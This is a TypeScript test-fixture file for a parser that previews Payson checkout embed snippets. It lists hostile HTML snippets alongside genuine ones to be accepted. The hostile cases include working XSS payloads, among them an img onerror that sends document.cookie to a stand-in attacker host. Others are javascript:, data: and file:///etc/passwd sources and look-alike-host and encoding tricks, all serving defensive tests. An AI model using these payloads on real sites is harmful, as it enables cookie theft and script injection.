import type { SnippetRejectionReason } from '../preview-result.ts';

/**
 * Named snippets for the parser's tests. Plain data, so the unit tests (production parser on
 * happy-dom's DOMParser) and the browser tests (Chromium's DOMParser) run the very same corpus. The
 * expected reasons are what the production parser gives: anything that is not simple, empty,
 * entity-free markup is `unparseable` before any document is built (docs/decisions/004).
 */

/** The seed's business checkout (fixtures/payson-list-page.seed.json). */
export const CHECKOUT_ID = 'cadacbda-3990-4ef2-8993-a53d00bcfda7';
/** The seed's other checkout: a real id, but not this one. */
export const OTHER_CHECKOUT_ID = 'a9e48054-20ab-49e6-84f1-a53d00b1a905';

/** What live configuration would allow: Payson's embed pages, https only. */
export const DEFAULT_ALLOW_LIST: readonly string[] = [
  'https://www.payson.se/embedded/checkout',
  'https://test-www.payson.se/embedded/checkout',
];
export const LEGACY_ALLOW_LIST: readonly string[] = ['http://embedded.payson.se/checkout'];
export const SANDBOX_ORIGIN = 'http://127.0.0.1:54321';
export const SANDBOX_ALLOW_LIST: readonly string[] = [`${SANDBOX_ORIGIN}/embedded/checkout`];

const ID = CHECKOUT_ID;
const GOOD = `https://www.payson.se/embedded/checkout?id=${ID}`;
const EVIL = `https://evil.example/embedded/checkout?id=${ID}`;

const iframe = (src: string) => `<iframe src="${src}"></iframe>`;
const container = (url: string) => `<div id="paysonContainer" url="${url}"></div>`;

export interface SnippetCase {
  readonly name: string;
  readonly html: string;
}
export interface RejectedSnippetCase extends SnippetCase {
  readonly reason: SnippetRejectionReason;
}
export interface AcceptedSnippetCase extends SnippetCase {
  readonly allowList: readonly string[];
  readonly url: string;
}

/** Every one must be rejected with DEFAULT_ALLOW_LIST and CHECKOUT_ID, for the reason given. */
export const HOSTILE_SNIPPETS: readonly RejectedSnippetCase[] = [
  // Markup that tries to run something, with nothing to preview
  { name: 'script tag only', reason: 'unparseable', html: '<script>alert(document.cookie)</script>' },
  { name: 'script that would write the iframe', reason: 'unparseable', html: `<script>document.write('${iframe(GOOD)}')</script>` },
  { name: 'img onerror', reason: 'unparseable', html: `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">` },
  { name: 'svg onload', reason: 'unparseable', html: '<svg onload=alert(1)></svg>' },
  { name: 'link with javascript: href', reason: 'unparseable', html: '<a href="javascript:alert(1)">Pay</a>' },
  { name: 'meta refresh to another site', reason: 'unparseable', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'object and embed instead of an iframe', reason: 'unparseable', html: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">' },
  { name: 'iframe only inside a comment', reason: 'unparseable', html: `<!-- ${iframe(GOOD)} -->` },
  { name: 'iframe only inside a textarea', reason: 'unparseable', html: `<textarea>${iframe(GOOD)}</textarea>` },
  { name: 'iframe only inside a template', reason: 'unparseable', html: `<template>${iframe(GOOD)}</template>` },
  { name: 'iframe tag cut off by the end of input', reason: 'unparseable', html: `<iframe src="${GOOD}"` },
  { name: 'iframe without src', reason: 'no-candidate', html: '<iframe name="checkoutIframe"></iframe>' },
  { name: 'container id in another letter case', reason: 'no-candidate', html: `<div id="PAYSONCONTAINER" url="${GOOD}"></div>` },

  // Sources that are not a web page at all
  { name: 'javascript: src', reason: 'bad-url', html: iframe('javascript:alert(document.domain)') },
  { name: 'javascript: src hidden by a character reference', reason: 'unparseable', html: iframe('&#106;avascript:alert(1)') },
  { name: 'javascript: src split by an encoded tab', reason: 'unparseable', html: iframe('java&#9;script:alert(1)') },
  { name: 'javascript: src with leading spaces', reason: 'bad-url', html: iframe('   javascript:alert(1)') },
  { name: 'javascript: with a payson-looking authority', reason: 'bad-url', html: container(`javascript://www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'data: src', reason: 'bad-url', html: iframe('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==') },
  { name: 'data: container url', reason: 'unparseable', html: container('data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;') },
  { name: 'blob: src on the payson origin', reason: 'bad-url', html: iframe('blob:https://www.payson.se/8c1b6f7e-8d07-4cbb-9a6a-1d4d2f0c6f61') },
  { name: 'file: src', reason: 'bad-url', html: iframe('file:///etc/passwd') },
  { name: 'ftp: on the payson host', reason: 'bad-url', html: iframe(`ftp://www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'srcdoc next to a good src', reason: 'unparseable', html: `<iframe src="${GOOD}" srcdoc="<script>parent.alert(1)</script>"></iframe>` },
  { name: 'srcdoc alone', reason: 'unparseable', html: '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'empty src', reason: 'bad-url', html: iframe('') },

  // Other hosts and look-alikes
  { name: 'another host', reason: 'not-allowed-host', html: iframe(EVIL) },
  { name: 'payson host as a prefix of another domain', reason: 'not-allowed-host', html: iframe(`https://www.payson.se.evil.com/embedded/checkout?id=${ID}`) },
  { name: 'payson host as a path on another domain', reason: 'not-allowed-host', html: iframe(`https://evil.com/www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'upper-case look-alike suffix', reason: 'not-allowed-host', html: iframe(`https://WWW.PAYSON.SE.EVIL.COM/embedded/checkout?id=${ID}`) },
  { name: 'two trailing dots', reason: 'not-allowed-host', html: iframe(`https://www.payson.se../embedded/checkout?id=${ID}`) },
  { name: 'another payson subdomain', reason: 'not-allowed-host', html: iframe(`https://evil.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'the bare payson domain', reason: 'not-allowed-host', html: iframe(`https://payson.se/embedded/checkout?id=${ID}`) },
  { name: 'hyphen instead of a dot', reason: 'not-allowed-host', html: iframe(`https://www-payson.se/embedded/checkout?id=${ID}`) },
  { name: 'punycode look-alike (Cyrillic a)', reason: 'not-allowed-host', html: iframe(`https://www.xn--pyson-4ve.se/embedded/checkout?id=${ID}`) },
  { name: 'unicode look-alike (Cyrillic a)', reason: 'bad-url', html: iframe(`https://www.p\u0430yson.se/embedded/checkout?id=${ID}`) },
  { name: 'ideographic full stops that URL() would map to dots', reason: 'bad-url', html: iframe(`https://www\u3002payson\u3002se/embedded/checkout?id=${ID}`) },
  { name: 'numeric IPv4 host', reason: 'not-allowed-host', html: iframe(`https://0x7f.1/embedded/checkout?id=${ID}`) },
  { name: 'sandbox embed page under the live allow-list', reason: 'not-allowed-host', html: container(`${SANDBOX_ORIGIN}/embedded/checkout?id=${ID}`) },

  // Credentials in the authority
  { name: 'userinfo puts the real host last', reason: 'bad-url', html: iframe(`https://www.payson.se@evil.com/embedded/checkout?id=${ID}`) },
  { name: 'userinfo in front of the real host', reason: 'bad-url', html: iframe(`https://evil.com@www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'user and password', reason: 'bad-url', html: iframe(`https://user:pass@www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'backslash before @', reason: 'bad-url', html: iframe(`https://www.payson.se\\@evil.com/embedded/checkout?id=${ID}`) },

  // Scheme, port and authority form
  { name: 'http downgrade of an https page', reason: 'not-allowed-host', html: iframe(`http://www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'other port', reason: 'not-allowed-host', html: iframe(`https://www.payson.se:8443/embedded/checkout?id=${ID}`) },
  { name: 'protocol-relative', reason: 'bad-url', html: iframe(`//www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'relative path (with a base element)', reason: 'unparseable', html: `<base href="https://www.payson.se/">${iframe(`/embedded/checkout?id=${ID}`)}` },
  { name: 'scheme without slashes', reason: 'bad-url', html: iframe(`https:www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'three slashes', reason: 'bad-url', html: iframe(`https:///www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'backslashes for slashes', reason: 'bad-url', html: iframe(`https:\\\\www.payson.se\\embedded\\checkout?id=${ID}`) },

  // Whitespace, control and encoded characters
  { name: 'leading space', reason: 'bad-url', html: iframe(` ${GOOD}`) },
  { name: 'newline inside the host', reason: 'bad-url', html: iframe(`https://www.pay\nson.se/embedded/checkout?id=${ID}`) },
  { name: 'encoded tab inside the scheme', reason: 'unparseable', html: iframe(`ht&#9;tps://www.payson.se/embedded/checkout?id=${ID}`) },
  { name: 'control character', reason: 'unparseable', html: iframe(`${GOOD}&#1;`) },
  { name: 'right-to-left override', reason: 'bad-url', html: iframe(`${GOOD}\u202E`) },
  { name: 'percent-encoded dot in the host', reason: 'bad-url', html: iframe(`https://www%2Epayson.se/embedded/checkout?id=${ID}`) },
  { name: 'percent-encoded slash in the path', reason: 'bad-url', html: iframe(`https://www.payson.se/embedded%2Fcheckout?id=${ID}`) },
  { name: 'percent-encoded id', reason: 'bad-url', html: iframe(`https://www.payson.se/embedded/checkout?id=%63adacbda-3990-4ef2-8993-a53d00bcfda7`) },
  { name: 'dot segments in the path', reason: 'bad-url', html: iframe(`https://www.payson.se/embedded/evil/../checkout?id=${ID}`) },
  { name: 'very long url', reason: 'unparseable', html: iframe(`${GOOD}&pad=${'a'.repeat(3000)}`) },

  // Path and query
  { name: 'other path', reason: 'not-allowed-host', html: iframe(`https://www.payson.se/embedded/checkout/evil?id=${ID}`) },
  { name: 'path in another letter case', reason: 'not-allowed-host', html: iframe(`https://www.payson.se/Embedded/Checkout?id=${ID}`) },
  { name: 'another checkout id', reason: 'id-mismatch', html: iframe(`https://www.payson.se/embedded/checkout?id=${OTHER_CHECKOUT_ID}`) },
  { name: 'missing id', reason: 'bad-url', html: iframe('https://www.payson.se/embedded/checkout') },
  { name: 'empty id', reason: 'bad-url', html: iframe('https://www.payson.se/embedded/checkout?id=') },
  { name: 'id that is not a GUID', reason: 'bad-url', html: iframe('https://www.payson.se/embedded/checkout?id=1234') },
  { name: 'id with a character too many', reason: 'bad-url', html: iframe(`${GOOD}0`) },
  { name: 'id in braces', reason: 'bad-url', html: iframe(`https://www.payson.se/embedded/checkout?id={${ID}}`) },
  { name: 'id twice, second one different', reason: 'unparseable', html: iframe(`${GOOD}&id=${OTHER_CHECKOUT_ID}`) },
  { name: 'id twice through an &amp; reference', reason: 'bad-url', html: iframe(`${GOOD}&amp;id=${OTHER_CHECKOUT_ID}`) },
  { name: 'id twice, same value', reason: 'unparseable', html: iframe(`${GOOD}&id=${ID}`) },
  { name: 'extra parameter', reason: 'unparseable', html: iframe(`${GOOD}&returnUrl=https://evil.example/`) },
  { name: 'id only in the fragment', reason: 'bad-url', html: iframe(`https://www.payson.se/embedded/checkout#id=${ID}`) },
  { name: 'wrong id in the query, right one in the fragment', reason: 'bad-url', html: iframe(`https://www.payson.se/embedded/checkout?id=${OTHER_CHECKOUT_ID}#id=${ID}`) },
  { name: 'fragment smuggled as a character reference', reason: 'unparseable', html: iframe(`${GOOD}&#35;x`) },

  // More than one candidate
  { name: 'two iframes, good then evil', reason: 'several-candidates', html: iframe(GOOD) + iframe(EVIL) },
  { name: 'two identical good iframes', reason: 'several-candidates', html: iframe(GOOD) + iframe(GOOD) },
  { name: 'iframe and container', reason: 'several-candidates', html: container(GOOD) + iframe(GOOD) },
  { name: 'two containers', reason: 'several-candidates', html: container(GOOD) + container(EVIL) },
  { name: 'container wrapping an evil iframe', reason: 'unparseable', html: `<div id="paysonContainer" url="${GOOD}">${iframe(EVIL)}</div>` },
  { name: 'iframe without src next to a container', reason: 'several-candidates', html: `<iframe name="x"></iframe>${container(GOOD)}` },
  { name: 'srcdoc iframe next to a container', reason: 'unparseable', html: `<iframe srcdoc="<b>x</b>"></iframe>${container(GOOD)}` },
  { name: 'evil iframe inside noscript', reason: 'unparseable', html: `<noscript>${iframe(EVIL)}</noscript>${container(GOOD)}` },
  { name: 'two iframes inside svg', reason: 'unparseable', html: `<svg>${iframe(GOOD)}${iframe(EVIL)}</svg>` },

  // Nesting and size
  { name: 'evil iframe nested in a good one', reason: 'unparseable', html: `<iframe src="${GOOD}">${iframe(EVIL)}</iframe>` },
  { name: 'good iframe nested in an evil one', reason: 'unparseable', html: `<iframe src="${EVIL}">${iframe(GOOD)}</iframe>` },
  { name: 'duplicate src attribute, evil first', reason: 'unparseable', html: `<iframe src="${EVIL}" src="${GOOD}"></iframe>` },
  { name: 'slash as attribute separator, evil src', reason: 'unparseable', html: `<iframe/src="${EVIL}"></iframe>` },
  { name: 'very long snippet', reason: 'unparseable', html: iframe(GOOD) + ' '.repeat(20_001) },
  { name: 'empty snippet', reason: 'no-snippet', html: '' },
  { name: 'whitespace-only snippet', reason: 'no-snippet', html: ' \n\t ' },
  // Namespaces, which would make the elements HTML, SVG or MathML again (issue 10)
  { name: 'good container in the XHTML namespace', reason: 'unparseable', html: `<div xmlns="http://www.w3.org/1999/xhtml" id="paysonContainer" url="${GOOD}"></div>` },
  { name: 'img with a handler in the XHTML namespace', reason: 'unparseable', html: '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>' },
  { name: 'svg in the SVG namespace', reason: 'unparseable', html: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' },
  { name: 'math in the MathML namespace', reason: 'unparseable', html: '<math xmlns="http://www.w3.org/1998/Math/MathML" style="color: red"/>' },
  { name: 'prefixed XHTML iframe', reason: 'unparseable', html: `<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="${GOOD}"></h:iframe>` },
  { name: 'xlink attribute beside a good src', reason: 'unparseable', html: `<iframe xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${EVIL}" src="${GOOD}"></iframe>` },

  // Not simple markup, so never parsed, though the container alone would be accepted
  { name: 'a comment, an unclosed img and a script around a good container', reason: 'unparseable', html: `<!-- ${iframe(EVIL)} --><img src=x onerror=alert(1)>${container(GOOD)}<script>alert(1)</script>` },
];

/** Real formats, each accepted with the allow-list it needs; the URL is rebuilt, not copied. */
export const GENUINE_SNIPPETS: readonly AcceptedSnippetCase[] = [
  {
    name: 'old documented format (seed), legacy allow-list',
    allowList: LEGACY_ALLOW_LIST,
    html: `<iframe id='checkoutIframe' name='checkoutIframe' src='http://embedded.payson.se/checkout?id=${ID}' style='width:100%; height: 100%' frameborder='0' scrolling='no'></iframe>`,
    url: `http://embedded.payson.se/checkout?id=${ID}`,
  },
  {
    name: 'newer container format on the test host, with its loader script',
    allowList: DEFAULT_ALLOW_LIST,
    html: `<div id="paysonContainer" url="https://test-www.payson.se/embedded/checkout?id=${ID}"></div><script src="https://test-www.payson.se/embedded/Content/payson.js"></script>`,
    url: `https://test-www.payson.se/embedded/checkout?id=${ID}`,
  },
  {
    name: 'newer container format on the live host',
    allowList: DEFAULT_ALLOW_LIST,
    html: container(GOOD),
    url: GOOD,
  },
  {
    name: 'sandbox embed page under the sandbox allow-list',
    allowList: SANDBOX_ALLOW_LIST,
    html: `<div id="paysonContainer" url="${SANDBOX_ORIGIN}/embedded/checkout?id=${ID}"></div><script src="${SANDBOX_ORIGIN}/embedded/payson.js"></script>`,
    url: `${SANDBOX_ORIGIN}/embedded/checkout?id=${ID}`,
  },
  {
    name: 'upper-case host and GUID normalise to the allow-listed origin',
    allowList: DEFAULT_ALLOW_LIST,
    html: iframe(`HTTPS://WWW.PAYSON.SE/embedded/checkout?id=${ID.toUpperCase()}`),
    url: `https://www.payson.se/embedded/checkout?id=${ID.toUpperCase()}`,
  },
  {
    name: 'trailing-dot host normalises to the allow-listed origin',
    allowList: DEFAULT_ALLOW_LIST,
    html: iframe(`https://www.payson.se./embedded/checkout?id=${ID}`),
    url: GOOD,
  },
  {
    name: 'explicit default port',
    allowList: DEFAULT_ALLOW_LIST,
    html: iframe(`https://www.payson.se:443/embedded/checkout?id=${ID}`),
    url: GOOD,
  },
  {
    name: 'event handlers on the iframe are not carried over',
    allowList: DEFAULT_ALLOW_LIST,
    html: `<iframe src="${GOOD}" onload="alert(1)" allow="payment; camera" sandbox=""></iframe>`,
    url: GOOD,
  },
];
